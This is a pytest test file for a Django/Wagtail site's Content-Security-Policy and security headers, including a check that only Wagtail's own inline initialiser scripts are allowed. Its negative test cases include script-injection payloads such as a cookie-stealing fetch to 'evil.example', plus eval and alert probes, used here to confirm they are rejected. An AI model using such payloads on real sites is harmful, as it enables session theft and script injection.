"""Security headers: every public response carries the strict policy, cache hits included; the admin its own."""

from __future__ import annotations

import pytest
from django.test import Client
from wagtail.models import Site

from homepage.models import HomePage
from news.models import NewsItem
from profile_site.models import ProfileSettings
from publications.models import PublicationPage
from serving import security_headers
from serving.security_headers import is_wagtail_initialiser, script_hash, wagtail_script_hashes

PUBLIC_POLICY = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; form-action 'self'; "
    "object-src 'none'; base-uri 'none'; frame-ancestors 'none'"
)


def directives(response) -> dict[str, list[str]]:
    policy = response["Content-Security-Policy"]
    return {name: sources for name, *sources in (part.split() for part in policy.split(";"))}


def set_analytics_id(analytics_id: str) -> None:
    profile = ProfileSettings.for_site(Site.objects.get(is_default_site=True))
    profile.analytics_id = analytics_id
    profile.save()


@pytest.mark.django_db
def test_every_kind_of_public_response_carries_the_strict_policy_and_headers(client, imported_demo):
    publication = PublicationPage.objects.live().first()
    paths = [
        "/",
        "/publications/",
        publication.url,
        "/news/",
        "/news/feed/",
        "/sitemap.xml",
        "/robots.txt",
        "/publications.bib",
        "/metrics/badges/citations.svg",
        "/no-such-page/",
        "/about/",
    ]
    for path in paths:
        response = client.get(path)
        assert response["Content-Security-Policy"] == PUBLIC_POLICY, path
        assert response["X-Content-Type-Options"] == "nosniff", path
        assert response["Referrer-Policy"] == "strict-origin-when-cross-origin", path
        assert response["Cross-Origin-Opener-Policy"] == "same-origin", path
        assert response["X-Frame-Options"] == "DENY", path


@pytest.mark.django_db
def test_public_html_has_no_inline_script_or_style(client, imported_demo):
    """What the policy refuses must not be on the page: no inline code, no style attribute, no handler."""
    from bs4 import BeautifulSoup

    for path in ["/", "/publications/", PublicationPage.objects.live().first().url, "/news/", "/no-such-page/"]:
        soup = BeautifulSoup(client.get(path).content, "html.parser")
        inline_scripts = [
            script
            for script in soup.find_all("script")
            if not script.get("src") and script.get("type") != "application/ld+json"
        ]
        assert inline_scripts == [], path
        assert soup.find_all("style") == [], path
        styled = [tag.name for tag in soup.find_all(True) if "style" in tag.attrs]
        handlers = [(tag.name, name) for tag in soup.find_all(True) for name in tag.attrs if name.startswith("on")]
        assert styled == [] and handlers == [], path


@pytest.mark.django_db
@pytest.mark.parametrize("analytics_id", ["", "G-TEST12345"])
def test_cache_hits_carry_the_policy_the_page_was_rendered_with(client, settings, imported_demo, analytics_id):
    settings.PAGE_CACHE_SECONDS = 3600
    set_analytics_id(analytics_id)
    miss, hit = client.get("/"), client.get("/")
    assert (miss["X-Page-Cache"], hit["X-Page-Cache"]) == ("miss", "hit")
    assert hit["Content-Security-Policy"] == miss["Content-Security-Policy"]
    script_sources = directives(hit)["script-src"]
    if analytics_id:
        assert b"googletagmanager.com/gtag/js" in hit.content
        assert script_sources == ["'self'", "https://*.googletagmanager.com"]
        assert "https://*.google-analytics.com" in directives(hit)["connect-src"]
    else:
        assert b"googletagmanager" not in hit.content
        assert script_sources == ["'self'"] and directives(hit)["connect-src"] == ["'self'"]


@pytest.mark.django_db
def test_analytics_origins_only_on_pages_that_load_analytics(client, imported_demo):
    set_analytics_id("G-TEST12345")
    assert "googletagmanager" in client.get("/news/")["Content-Security-Policy"]
    assert client.get("/robots.txt")["Content-Security-Policy"] == PUBLIC_POLICY


@pytest.mark.django_db
def test_admin_policy_allows_only_the_initialisers_wagtail_rendered(admin_client, imported_demo):
    response = admin_client.get(f"/admin/snippets/news/newsitem/edit/{NewsItem.objects.first().pk}/")
    policy = directives(response)
    date_script = 'initDateChooser("id_date", {"dayOfWeekStart": 0, "format": "Y-m-d"});'
    assert date_script.encode() in response.content
    assert script_hash(date_script) in policy["script-src"]
    assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in policy["script-src"]
    assert policy["style-src"] == ["'self'"]
    assert policy["frame-ancestors"] == ["'self'"] and policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]


@pytest.mark.django_db
def test_previews_get_the_admin_policy_not_the_public_one(admin_client, imported_demo):
    """Wagtail renders a preview through the middleware again for the page's own URL; the admin's policy wins."""
    response = admin_client.get(f"/admin/pages/{HomePage.objects.get().pk}/view_draft/")
    assert response.status_code == 200 and b'class="masthead"' in response.content
    assert directives(response)["frame-ancestors"] == ["'self'"]


@pytest.mark.django_db
def test_the_focal_point_editor_may_probe_for_touch_events_and_nothing_more(admin_client, imported_demo):
    image = PublicationPage.objects.live().first().teaser_image
    script_sources = directives(admin_client.get(f"/admin/images/{image.pk}/"))["script-src"]
    assert "'unsafe-hashes'" in script_sources and script_hash("return;") in script_sources
    assert "'unsafe-hashes'" not in directives(admin_client.get("/admin/"))["script-src"]


@pytest.mark.django_db
def test_debug_error_pages_keep_their_inline_styles(settings):
    settings.DEBUG = True
    response = Client().get("/no-such-page/")
    assert response.status_code == 404 and "Content-Security-Policy" not in response


@pytest.mark.parametrize(
    "script",
    [
        'initDateChooser("id_date", {"dayOfWeekStart": 0, "format": "Y-m-d"});',
        'initDateTimeChooser("id_go_live_at", {"format": "Y-m-d H:i", "parentID": "#schedule-publishing-dialog"});',
        'new ImageChooser("id_avatar", {"modalUrl": "/admin/images/chooser/"});',
        'createTaskChooser("id_task");',
        '\n        (function() {\n            var panel = new InlinePanel(JSON.parse("{\\u0022formsetPrefix\\u0022: '
        '\\u0022id_authors\\u0022, \\u0022canOrder\\u0022: true}"));\n        })();\n    ',
    ],
)
def test_wagtail_initialisers_are_recognised(script):
    assert is_wagtail_initialiser(script)


@pytest.mark.parametrize(
    "script",
    [
        "window.injected = true",
        'initDateChooser("id_date", {}); fetch("https://evil.example/?" + document.cookie);',
        'initDateChooser("id_date", alert(1));',
        'initDateChooser("id_date", NaN);',
        'new Function("alert(1)");',
        'new ImageChooser("x", {}), alert(1), new ImageChooser("y", {});',
        'eval("alert(1)");',
        '(function() { var panel = new InlinePanel(JSON.parse("{}")); alert(1); })();',
        '(function() { var panel = new InlinePanel(JSON.parse("\\x7b\\x7d")); })();',
        '(function() { var panel = new InlinePanel(JSON.parse("[1]")); })();',
    ],
)
def test_anything_else_is_not(script):
    assert not is_wagtail_initialiser(script)


def test_only_initialisers_are_hashed_once_each():
    date_script = 'initDateChooser("id_date", {"format": "Y-m-d"});'
    html = (
        f"<script>{date_script}</script><template><script>{date_script}</script></template>"
        '<script src="/static/app.js"></script><script type="application/json">{"a": 1}</script>'
        "<script>alert(document.domain)</script>"
    )
    assert wagtail_script_hashes(html) == (script_hash(date_script),)


def test_media_from_another_origin_is_allowed_as_images(monkeypatch):
    monkeypatch.setattr(security_headers, "media_origin", lambda: "https://media.example.net")
    security_headers.public_policy.cache_clear()
    try:
        policy = security_headers.public_policy(analytics=False)
    finally:
        security_headers.public_policy.cache_clear()
    assert "img-src 'self' https://media.example.net;" in policy
